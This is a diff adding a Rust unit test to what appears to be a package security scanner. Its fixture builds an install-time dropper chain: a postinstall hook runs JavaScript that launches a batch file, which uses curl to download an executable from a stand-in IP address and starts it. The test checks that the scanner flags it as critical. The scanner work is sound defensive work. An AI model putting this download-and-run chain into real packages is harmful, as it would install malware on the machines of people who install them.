@@ -129,4 +129,28 @@ mod tests {
         );
         assert_eq!(s.findings[0].severity, Severity::High);
     }
+
+    /// A batch file started from install-time JavaScript by a path built from `__dirname`.
+    #[test]
+    fn positive_batch_started_by_dirname_path() {
+        let s = scan(&[
+            (
+                "package.json",
+                "{\"name\":\"t\",\"scripts\":{\"postinstall\":\"node i.js\"}}",
+            ),
+            (
+                "i.js",
+                "require('child_process').execFile(__dirname + '/bin/run.bat');\n",
+            ),
+            (
+                "bin/run.bat",
+                "@echo off\r\ncurl -s http://198.51.100.9/u.exe -o u.exe\r\nstart /b u.exe\r\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/script-dropper"),
+            vec![("bin/run.bat".to_string(), 3)]
+        );
+        assert_eq!(s.findings[0].severity, Severity::Critical);
+    }
 }
